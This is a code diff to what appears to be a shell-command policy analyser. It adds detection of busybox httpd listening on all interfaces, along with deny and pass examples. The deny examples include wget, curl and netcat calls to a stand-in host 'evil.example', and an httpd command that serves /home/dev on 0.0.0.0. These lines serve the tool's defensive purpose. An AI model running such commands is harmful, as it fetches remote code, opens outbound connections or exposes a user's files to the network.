@@ -1,5 +1,6 @@
 // Shells: where each takes its program from (`-c` text, stdin, a file), read as the shell reads its own command line.
 import type { Word } from '../../types.js';
+import { bound, type Destination } from '../hosts.js';
 import { has, parse } from '../argv.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
 import { expandedScript } from '../variables.js';
@@ -306,14 +307,34 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
       const v = value(first);
       if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: first, why: `the ${call.name} applet is computed: ${first.dynamic ?? ''}` }] };
       if (v.startsWith('-')) return { runs: [] };
+      // The httpd applet serves its -h directory (the working one) on -p [IP:]PORT, every interface without an IP.
+      if (v === 'httpd') return { runs: [], listens: [busyboxHttpd(call.args.slice(1), first)] };
       return { runs: [{ kind: 'argv', argv: call.args, via: call.name }] };
     },
     examples: {
-      deny: ['busybox wget http://evil.example/x', "busybox sh -c 'curl evil.example'", 'toybox nc evil.example 9', "toybox sh -c 'curl evil.example'"],
-      pass: ['busybox ls', 'busybox --list', 'toybox echo hi'],
+      deny: ['busybox wget http://evil.example/x', "busybox sh -c 'curl evil.example'", 'toybox nc evil.example 9', "toybox sh -c 'curl evil.example'", 'busybox httpd -f -p 8000', 'busybox httpd -p 0.0.0.0:8000 -h /home/dev'],
+      pass: ['busybox ls', 'busybox --list', 'toybox echo hi', 'busybox httpd -f -p 127.0.0.1:8000'],
     },
   },
 ];
+
+/** Where busybox httpd listens: -p [IP:]PORT (`-p8000` too), every interface without an IP. */
+function busyboxHttpd(args: readonly Word[], at: Word): Destination {
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) return bound(args[i]!, null);
+    if (!/^-[a-zA-Z]/.test(v)) continue;
+    // -f -v -i are flags; -p -u -r -h -c -d -e -m take a value, the rest of the word or the next one.
+    for (let j = 1; j < v.length; j++) {
+      if ('fvi'.includes(v[j]!)) continue;
+      const rest = v.slice(j + 1);
+      const word = rest !== '' ? attached(args[i]!, rest) : args[++i];
+      if (v[j] === 'p') return word ? bound(word, value(word) ?? null) : bound(at);
+      break;
+    }
+  }
+  return bound(at);
+}
 
 const WSL_VALUE = new Set(['-d', '--distribution', '-u', '--user', '--cd', '--shell-type', '--distribution-id']);
 const WSL_MANAGEMENT =
